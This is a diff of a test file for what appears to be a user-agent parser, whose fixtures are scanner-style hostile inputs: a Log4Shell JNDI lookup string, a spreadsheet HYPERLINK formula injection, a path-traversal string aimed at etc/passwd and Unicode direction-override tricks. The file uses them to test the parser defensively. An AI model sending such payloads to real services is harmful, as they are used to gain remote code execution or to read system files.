@@ -55,7 +55,7 @@ describe('an agent that names nothing known', () => {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what scanners send
     ['${jndi:ldap://example.com/a}'],
     ['=HYPERLINK("https://example.com")'],
-    ['../../etc/passwd'],
+    ['../../../features/etc/passwd'],
     ['\u202eMozilla/5.0 (iPhone)'],
     ['\u00e2\u0080\u00aeMozilla/5.0'],
     ['x'.repeat(10_000)],
